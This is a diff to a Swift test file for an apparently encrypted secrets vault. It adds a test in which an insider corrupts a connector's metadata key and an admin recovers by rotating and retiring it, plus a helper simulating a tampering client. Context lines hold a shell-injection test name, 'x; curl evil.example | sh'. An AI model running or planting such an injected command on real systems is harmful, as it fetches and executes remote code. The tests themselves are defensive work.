@@ -27,6 +27,31 @@ struct InsiderTests {
     #expect(try ada.connectors().filter { !$0.item.isRetired }.map(\.details.name) == ["crm-sync"])
   }
 
+  @Test func `a metadata key that a holder made of junk stops nothing but its item, which an admin ends by its ID`() throws {
+    try vault.session(.dev).commit { try $0.share(.connector, "crm-sync", Share(with: "ada")) }
+    _ = try vault.session(.ada).commit { try $0.remove("audrey") }
+    let dev = try vault.session(.dev)
+    let connector = try dev.connector("crm-sync").item
+    try dev.commit { transaction in try translating { try transaction.renewBadly(connector) } }
+    #expect(refusal { _ = try dev.connector("crm-sync") }?.code == .integrity)
+    // ada loses the audit key: what she holds gets a new metadata key, where it opens.
+    let bea = try vault.session(.bea)
+    _ = try bea.commit { try $0.setRole(of: "ada", to: .developer) }
+    let (name, id) = (connector.id.hex, connector.id)
+    #expect(try bea.item(.connector, name).id == id)
+    #expect(try bea.commit { try $0.unshare(.connector, name, from: "ada") } == .needsRekey)
+    try bea.commit { try $0.rotate(.connector, name, secret: secret("another"), .takingOver()) }
+    #expect(try bea.opensValue(of: .connector, name))
+    _ = try bea.commit { try $0.remove("dev") }
+    try bea.commit { try $0.retire(.connector, name, withTokens: true) }
+    // Its name is free, and what is made of it holds.
+    try bea.commit {
+      try $0.register(ConnectorDetails(name: "crm-sync", provider: "google", connectorID: "g"), secret: secret("s"))
+    }
+    #expect(try bea.connector("crm-sync").id != id)
+    #expect(try bea.verifyLog().verdicts.holds)
+  }
+
   @Test func `a name that would run in a shell stands in no command`() throws {
     let name = "x; curl evil.example | sh"
     let details = ConnectorDetails(name: name, provider: "google", connectorID: "g")
@@ -144,6 +169,24 @@ struct InsiderTests {
 
 extension Custody.Transaction {
   /// As a patched client registers a connector: under another name than its details have.
+  /// And renews a metadata key: by one that opens to nobody.
+  func renewBadly(_ item: Item) throws {
+    let generation = item.metadataKey.generation + 1
+    var envelopes = Envelopes(.metadataKey, generation: generation)
+    let members = core.history.metadataRecipients(of: item, for: core.me, at: core.now())
+    for id in [Identifier.none] + members { envelopes.add(id, Sodium.randomBytes(80)) }
+    let writer = NoteWriter(
+      vault: core.vault, item: item.id, generation: generation, key: try MetadataKey.random(in: core.arena))
+    let renewal = Renewal(
+      commitment: SHA256.hash([7]), generation: generation, previous: Sodium.randomBytes(73), envelopes: envelopes,
+      journal: nil, carriesJournal: false, writer: writer)
+    let entry = try append(.connectorRenew) { entry in
+      entry.set(.item, item.id)
+      renewal.name(in: &entry)
+    }
+    try store(renewal, of: item, entry)
+  }
+
   func register(_ details: ConnectorDetails, as name: String) throws {
     let new = NewItem(kind: .connector, name: name, metadata: details.metadata, expires: nil)
     _ = try add(new, secret: secret("s"))
